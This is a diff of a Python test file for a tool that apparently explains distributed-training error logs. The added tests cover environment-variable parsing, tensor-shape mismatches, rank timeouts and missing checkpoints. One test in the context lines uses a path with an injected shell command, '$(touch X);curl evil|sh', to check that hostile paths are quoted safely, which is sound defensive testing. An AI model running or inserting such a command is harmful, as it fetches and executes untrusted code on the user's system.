@@ -176,6 +176,57 @@ def test_the_path_of_missing_data_is_whole_however_python_shows_it(shown, path):
     assert f"the training data {path} does not exist" in explanation.summary
 
 
+def test_the_statement_shows_which_setting_of_the_environment_is_no_number():
+    frames = 'Traceback (most recent call last):\n  File "a.py", line 2, in <module>\n    n = int(os.environ["N"])\n'
+    fix = explain_text(f"{frames}ValueError: invalid literal for int() with base 10: 'auto'\n").fix
+    assert "environment variable N" in fix
+    assert "'auto', which a.py:2 reads" in fix
+
+
+@pytest.mark.parametrize(("shape", "size", "times"), [
+    ("[2, 6, 4, 8]", "192", "2 times"),
+    ("[2, 6, 4, 8]", "200", None),  # no whole number of times
+    ("[32, 10]", "160", None),  # the last batch, more likely
+])  # fmt: skip
+def test_heads_that_tensor_parallelism_splits_are_shown_by_how_often_the_numbers_fit(shape, size, times):
+    fix = explain_text(raised(1, f"RuntimeError: shape '{shape}' is invalid for input of size {size}")).fix
+    assert ("tensor parallelism" in fix) == (times is not None)
+    assert (times or "") in fix
+
+
+TIMED_OUT = "RuntimeError: [unbound_buffer.cc:78] Timed out waiting 8000ms for recv operation to complete"
+
+
+@pytest.mark.parametrize(("line", "is_shown"), [
+    ("[rank0] tokenizing shard 4/12 (3.1 MB/s)", True),
+    ("[rank0] saving step 40 is done", False),
+    ("[rank1] downloading shard 4/12", False),  # by the rank that waited
+    ("[rank0] step 40 loss 2.1", False),
+])  # fmt: skip
+def test_long_work_of_another_rank_before_a_timeout_is_named(line, is_shown):
+    explanation = explain_text(f"[rank0] start\n{line}\n{raised(1, TIMED_OUT)}")
+    assert explanation.cause == "collective-timeout-desync"
+    assert ("line 2 reports work that can take long" in explanation.fix) == is_shown
+
+
+MISSING = "FileNotFoundError: [Errno 2] No such file or directory: 'runs/exp_60/best.pt'"
+CLOSED = "RuntimeError: [pair.cc:553] Connection closed by peer [127.0.0.1]:36748"
+
+
+@pytest.mark.parametrize(("rank", "other", "is_lone"), [(1, CLOSED, True), (0, CLOSED, False), (1, MISSING, False)])
+def test_a_checkpoint_that_one_rank_alone_does_not_find_may_be_made_by_another(rank, other, is_lone):
+    fix = explain_text(raised(rank, MISSING) + raised(1 - rank, other)).fix
+    assert ("only rank 1 reports it" in fix) == is_lone
+
+
+@pytest.mark.parametrize(("behind", "is_over"), [("", True), ("step 60 | loss 2.0\n", False)])
+def test_a_run_that_is_stopped_behind_its_end_was_over(behind, is_over):
+    steps = "".join(f"step {step} | loss {3 - step / 50}\n" for step in range(0, 60, 10))
+    end = "W1130 12:17:57.9 17795 torch/agent/server/api.py:753] Received 15 death signal, shutting down workers"
+    fix = explain_text(f"{steps}saved the model, training finished in 1.2 s\n{behind}{end}\n").fix
+    assert ("line 7 reports the end of the work" in fix) == is_over
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
     path = "/data/$(touch X);curl evil|sh/train.bin"
     fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
